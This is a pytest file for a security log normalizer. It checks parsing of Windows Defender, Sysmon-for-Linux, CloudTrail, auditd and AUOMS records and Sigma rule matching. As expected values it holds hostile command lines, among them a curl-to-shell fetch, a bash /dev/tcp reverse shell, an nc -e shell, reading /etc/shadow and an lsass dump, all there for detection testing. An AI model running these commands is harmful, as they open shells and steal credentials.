"""Real shapes of Windows, Linux and cloud records: padded values, spaced names, UserData, unescaped
XML, shipped CloudTrail, auditd records as JSON, AUOMS; and Sigma rules matching them as written."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schemas.event import Origin
from tests.sigma_helpers import engine_from_yaml, rule_ids
from udfs.normalize import xmltext
from udfs.normalize.fields import PLACEHOLDERS
from udfs.normalize.files import iter_records
from udfs.normalize.normalizer import Normalizer
from udfs.normalize.windows.values import UNTRIMMED, tidy

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "normalize"


@pytest.fixture(autouse=True)
def _private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TTPFLOW_CACHE_DIR", str(tmp_path / "cache"))


def events(name: str) -> list[dict[str, Any]]:
    out = []
    normalizer = Normalizer()
    for payload, origin in iter_records(FIXTURES / name):
        outcome = normalizer.normalize(payload, origin)
        assert outcome.event is not None, outcome.dead_letter
        out.append(outcome.event)
    return out


# ---------------------------------------------------------------- Windows values and names


def test_padded_values_match_trimmed_and_keep_what_was_sent() -> None:
    logon = events("windows_real_shapes.jsonl")[2]
    assert logon["original"]["LogonProcessName"] == "NtLmSsp"
    assert logon["original"][UNTRIMMED] == {"LogonProcessName": "NtLmSsp "}
    asr = events("windows_real_shapes.jsonl")[1]
    assert asr["process"]["command_line"] == "procdump64.exe -ma lsass.exe l.dmp"  # the ECS value too
    assert asr["original"][UNTRIMMED]["Target Commandline"] == "procdump64.exe -ma lsass.exe l.dmp "


def test_spaced_defender_names_are_read_without_spaces_in_every_wrapping() -> None:
    evtx_amsi, _, _, _, _, nxlog = events("windows_real_shapes.jsonl")
    sentinel_row = events("sentinel.jsonl")[5]
    for event, source, threat in (
        (evtx_amsi, "AMSI", "Trojan:PowerShell/Amsi.A"),
        (nxlog, "Real-Time Protection", "HackTool:Win64/Mikatz!dha"),
        (sentinel_row, "Real-Time Protection", "HackTool:Win32/Mimikatz.D"),
    ):
        original = event["original"]
        assert original["SourceName"] == original["Source Name"] == source
        assert original["ThreatName"] == threat
        assert event["rule"]["name"] == threat and event["event"]["module"] == "defender"
        assert original["Provider_Name"] == "Microsoft-Windows-Windows Defender"  # NXLog's SourceName moved aside
    assert evtx_amsi["process"]["name"] == "powershell.exe"
    assert nxlog["file"]["path"] == "C:\\Users\\alice\\Documents\\mimidrv.sys"  # "file:_" prefix dropped


def test_user_data_fields_are_not_overwritten_by_system_fields() -> None:
    _, _, _, evtx_104, beat_104, _ = events("windows_real_shapes.jsonl")
    sentinel_104 = events("sentinel.jsonl")[4]
    for event, cleared in (
        (evtx_104, "Windows PowerShell"),
        (beat_104, "Microsoft-Windows-PowerShell/Operational"),
        (sentinel_104, "Microsoft-Windows-Sysmon/Operational"),
    ):
        assert event["original"]["Channel"] == cleared  # UserData/LogFileCleared/Channel
        assert event["event"]["dataset"] == "System"  # the record's own channel
        assert event["original"]["EventID"] == 104
        assert event["original"]["Provider_Name"] == "Microsoft-Windows-Eventlog"
        assert event["user"]["name"] == "alice"



LOG_CLEARED = """
title: A Windows event log was cleared (System 104)
id: 11111111-0000-4000-8000-000000000104
logsource: {product: windows, service: system}
detection:
    selection: {EventID: 104, Provider_Name: Microsoft-Windows-Eventlog}
    condition: selection
level: medium
"""


def test_a_log_cleared_event_routes_by_its_own_channel_not_the_cleared_one() -> None:
    engine = engine_from_yaml(LOG_CLEARED)
    _, _, _, evtx_104, beat_104, _ = events("windows_real_shapes.jsonl")
    for event in (evtx_104, beat_104, events("sentinel.jsonl")[4]):
        assert rule_ids(engine, event) == ["11111111-0000-4000-8000-000000000104"]

RULES = """
title: AMSI detection by Defender
id: 11111111-0000-4000-8000-000000000001
logsource: {product: windows, service: windefend}
detection:
    selection: {EventID: 1116, SourceName: AMSI}
    condition: selection
---
title: Defender threat by name, any wrapping
id: 11111111-0000-4000-8000-000000000002
logsource: {product: windows, service: windefend}
detection:
    selection:
        EventID: 1116
        ThreatName|contains: 'Mikatz'
        ProcessName|endswith: '\\explorer.exe'
    condition: selection
---
title: NTLM network logon
id: 11111111-0000-4000-8000-000000000003
logsource: {product: windows, service: security}
detection:
    selection: {EventID: 4624, LogonProcessName: NtLmSsp, LogonType: 3}
    condition: selection
"""


def test_sigma_rules_match_as_written() -> None:
    engine = engine_from_yaml(RULES)
    amsi, _, logon, _, _, nxlog = events("windows_real_shapes.jsonl")
    sentinel_rows = events("sentinel.jsonl")
    assert rule_ids(engine, amsi) == ["11111111-0000-4000-8000-000000000001"]
    assert rule_ids(engine, nxlog) == ["11111111-0000-4000-8000-000000000002"]
    assert rule_ids(engine, sentinel_rows[5]) == ["11111111-0000-4000-8000-000000000002"]
    assert rule_ids(engine, logon) == ["11111111-0000-4000-8000-000000000003"]  # "NtLmSsp " as sent
    assert rule_ids(engine, sentinel_rows[0]) == ["11111111-0000-4000-8000-000000000003"]


values = st.one_of(
    st.none(),
    st.integers(),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=12),
    st.lists(st.integers(), max_size=2),
)


@settings(max_examples=300, deadline=None, database=None)
@given(data=st.dictionaries(st.text(alphabet="AbC", min_size=1, max_size=5), values, max_size=10))
def test_property_tidy_trims_every_string_and_keeps_each_raw_one(data: dict[str, Any]) -> None:
    sent = dict(data)
    original = dict(data)
    tidy(data, original, spaced_names=False)
    untrimmed = original.pop(UNTRIMMED, {})
    assert set(untrimmed) == {k for k, v in sent.items() if isinstance(v, str) and v != v.strip()}
    for key, value in sent.items():
        want = value.strip() if isinstance(value, str) else value
        assert data[key] == original[key] == want
        assert untrimmed.get(key, value) == value


@settings(max_examples=200, deadline=None, database=None)
@given(names=st.lists(st.text(alphabet="Ab", min_size=1, max_size=4), min_size=1, max_size=5, unique=True))
def test_property_spaced_names_get_their_unspaced_alias(names: list[str]) -> None:
    data = {f"{name} {name}": f" v{i} " for i, name in enumerate(names)}
    original = dict(data)
    tidy(data, original, spaced_names=True)
    for i, name in enumerate(names):
        assert data[f"{name}{name}"] == original[f"{name}{name}"] == data[f"{name} {name}"] == f"v{i}"
        assert original[UNTRIMMED][f"{name}{name}"] == f" v{i} "


# ---------------------------------------------------------------- XML written without escaping


def test_unescaped_sysmon_for_linux_xml_is_recovered() -> None:
    got = [e["process"]["command_line"] for e in events("sysmon_linux_unescaped.log")]
    assert got == [
        "bash -c echo &lt /dev/null",
        "bash -c curl -s 'http://198.51.100.9/a?x=1&y=2' | sh",
        "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
        "sh -c cat < /etc/shadow > /tmp/.s",
        "printf \ufffd[31mred",  # a control character XML cannot hold
    ]


def _sysmon_line(command_line: str) -> bytes:
    line = (FIXTURES / "sysmon_linux_unescaped.log").read_text(encoding="utf-8").splitlines()[0]
    return line.replace("bash -c echo &lt /dev/null", command_line).encode()


def test_markup_that_happens_to_be_well_formed_does_not_hide_the_rest() -> None:
    event = Normalizer().normalize(_sysmon_line("curl x <a/> | sh <b>c</b>"), Origin()).event
    assert event is not None and event["process"]["command_line"] == "curl x <a/> | sh <b>c</b>"


def test_escaped_xml_reads_as_before() -> None:
    event = Normalizer().normalize(_sysmon_line("a &amp;&amp; b &lt;c&gt; &#38;"), Origin()).event
    assert event is not None and event["process"]["command_line"] == "a && b <c> &"


def test_xml_beyond_repair_is_a_dead_letter() -> None:
    letter = Normalizer().normalize(_sysmon_line("x </Data> y"), Origin()).dead_letter
    assert letter is not None and letter["reason"] == "bad_xml" and letter["source_format"] == "sysmon_linux"
    assert "not recoverable" in letter["detail"]


@settings(max_examples=400, deadline=None, database=None)
@given(text=st.text(alphabet=st.sampled_from("ab &<>;'\"/=#x1lt\t"), max_size=40))
def test_property_unescaped_text_round_trips(text: str) -> None:
    """What a sender writes into <Data> unescaped is what the value reads, unless it spells markup the
    reader cannot tell from the record's own (a closing </Data>) or a complete reference (&lt;)."""
    if "</" in text or any(ref in text for ref in ("&lt;", "&gt;", "&amp;", "&quot;", "&apos;")) or "&#" in text:
        return
    xml = f'<Event><EventData><Data Name="CommandLine">{text}</Data><Data Name="X">1</Data></EventData></Event>'
    root = xmltext.parse(xml, "$", "test")
    data = {d.get("Name"): d.text or "" for d in root.iter("Data")}
    assert data == {"CommandLine": text.replace("\r", "\n"), "X": "1"}


# ---------------------------------------------------------------- CloudTrail, auditd and AUOMS as shipped


def test_cloudtrail_through_logstash_beats_and_helk() -> None:
    flattened, renamed, helk = events("cloudtrail_shipped.jsonl")
    assert flattened["timestamp_ms"] == 1714565400000  # @timestamp: eventTime moved there
    assert flattened["original"]["requestParameters"] == {
        "bucketName": "corp-backups",
        "bucketPolicy": {"Version": "2012-10-17"},
        "Host": "corp-backups.s3.eu-west-1.amazonaws.com",
    }
    assert "requestParameters.bucketName" not in flattened["original"]
    assert flattened["user"]["name"] == "alice" and flattened["cloud"]["principal_type"] == "IAMUser"
    assert renamed["timestamp_ms"] == 1714565430000  # event_time wins over the shipper's @timestamp
    assert renamed["original"]["requestParameters"] == {"userName": "svc-deploy"}  # JSON text decoded
    assert renamed["original"]["responseElements"]["accessKey"]["status"] == "Active"
    assert renamed["user"]["roles"] == ["arn:aws:iam::111122223333:role/admin"]
    assert helk["event"]["outcome"] == "failure" and helk["authentication"]["mfa"] is False
    assert helk["user"]["name"] == "alice"


def test_sigma_cloudtrail_rule_reads_flattened_parameters() -> None:
    engine = engine_from_yaml(
        """
        title: Bucket policy on backups
        id: 22222222-0000-4000-8000-000000000001
        logsource: {product: aws, service: cloudtrail}
        detection:
            selection: {eventName: PutBucketPolicy, requestParameters.bucketName: corp-backups}
            condition: selection
        """
    )
    assert rule_ids(engine, events("cloudtrail_shipped.jsonl")[0]) == ["22222222-0000-4000-8000-000000000001"]


def test_cloudtrail_without_any_time_names_every_accepted_field() -> None:
    doc = orjson.loads((FIXTURES / "cloudtrail_shipped.jsonl").read_bytes().splitlines()[2])
    del doc["@timestamp"]
    letter = Normalizer("cloudtrail").normalize(orjson.dumps(doc), Origin()).dead_letter
    assert letter is not None and letter["reason"] == "missing_field"
    for name in ("eventTime", "EventTime", "event_time", "eventtime", "@timestamp", "timestamp"):
        assert name in letter["detail"]


def test_auditd_records_as_json_objects() -> None:
    syscall, execve, auth = events("auditd_records.jsonl")
    assert syscall["source_format"] == "auditd_json"
    assert syscall["event"]["category"] == ["process"] and syscall["process"]["executable"] == "/usr/bin/nc.openbsd"
    assert syscall["host"]["name"] == "db-01" and syscall["rule"]["name"] == "exec"
    assert syscall["original"]["raw"].startswith("type=SYSCALL")  # the record as shipped
    assert execve["process"]["args"] == ["nc", "-e", "/bin/sh", "198.51.100.77"]  # hex a3 decoded from raw
    assert syscall["id"] == execve["id"] == "db-01/1714565400.250:88101"  # one audit event, two records
    assert auth["event"]["category"] == ["authentication"] and auth["event"]["outcome"] == "failure"
    assert auth["timestamp_ms"] == 1714565460010 and auth["host"]["name"] == "db-01"  # no raw: msg and node


def test_auoms_lines() -> None:
    execve, connect, user_err = events("auoms.log")
    assert execve["event"]["category"] == ["process"] and execve["event"]["type"] == ["start"]
    assert execve["process"]["command_line"] == "python3 -c \"import pty;pty.spawn('/bin/bash')\""
    assert execve["process"]["working_directory"] == "/home/bob" and execve["user"]["name"] == "bob"
    assert connect["event"]["category"] == ["network"] and connect["event"]["action"] == "connect"
    assert user_err["event"]["outcome"] == "failure" and user_err["source"]["ip"] == "203.0.113.92"
    assert "target" not in user_err["user"]  # auid=-1: no login session


def test_m365_records() -> None:
    failed, mailbox = events("m365.jsonl")
    assert failed["event"]["category"] == ["authentication"] and failed["event"]["outcome"] == "failure"
    assert failed["authentication"]["failure_reason"] == "InvalidUserNameOrPassword"
    assert mailbox["source"]["ip"] == "2001:db8::93"  # "[addr]:port"
    assert mailbox["user"]["target"]["name"] == "bob@corp.example"


# ---------------------------------------------------------------- properties of the shipped shapes

AUOMS_LINE = (FIXTURES / "auoms.log").read_text(encoding="utf-8").splitlines()[0]


@settings(max_examples=300, deadline=None, database=None)
@given(cmdline=st.text(alphabet=st.sampled_from("ab =\"'-/;|&<>\\x1"), min_size=1, max_size=40))
def test_property_auoms_command_line_round_trips(cmdline: str) -> None:
    """AUOMS does not escape quotes inside ``cmdline="..."``: any text reads back whole, unless it
    itself holds a quote followed by `` key=`` (indistinguishable from the next field) or ends in spaces."""
    if cmdline != cmdline.strip() or re.search(r'"\s+[A-Za-z_][\w-]*=', cmdline) or cmdline.endswith('"'):
        return
    if cmdline in PLACEHOLDERS:  # "-", "?": no value, as everywhere
        return
    start = AUOMS_LINE.index('cmdline="') + len('cmdline="')
    end = AUOMS_LINE.index('" containerid=')
    line = AUOMS_LINE[:start] + cmdline + AUOMS_LINE[end:]
    event = Normalizer("auditd").normalize(line.encode(), Origin()).event
    assert event is not None and event["process"]["command_line"] == cmdline
    assert event["original"]["containerid"] == "" and event["original"]["pid"] == "8123"


nested = st.recursive(
    st.text(alphabet="abc", max_size=4) | st.integers(0, 9),
    lambda children: st.dictionaries(st.text(alphabet="xyz", min_size=1, max_size=3), children, min_size=1, max_size=3),
    max_leaves=8,
)


def _flatten(prefix: str, value: Any, out: dict[str, Any]) -> None:
    if isinstance(value, dict):
        for key, item in value.items():
            _flatten(f"{prefix}.{key}", item, out)
    else:
        out[prefix] = value


@settings(max_examples=200, deadline=None, database=None)
@given(params=st.dictionaries(st.text(alphabet="xyz", min_size=1, max_size=3), nested, min_size=1, max_size=4))
def test_property_flattened_cloudtrail_reads_like_the_nested_record(params: dict[str, Any]) -> None:
    base = orjson.loads((FIXTURES / "cloudtrail.jsonl").read_bytes().splitlines()[0])
    base["requestParameters"] = params
    flat_doc = {k: v for k, v in base.items() if k != "requestParameters"}
    _flatten("requestParameters", params, flat_doc)
    nested_event = Normalizer().normalize(orjson.dumps(base), Origin()).event
    flat_event = Normalizer().normalize(orjson.dumps(flat_doc), Origin()).event
    assert nested_event is not None and flat_event is not None
    assert flat_event["original"]["requestParameters"] == params
    assert {k: v for k, v in flat_event.items() if k != "raw_sha256"} == {
        k: v for k, v in nested_event.items() if k != "raw_sha256"
    }
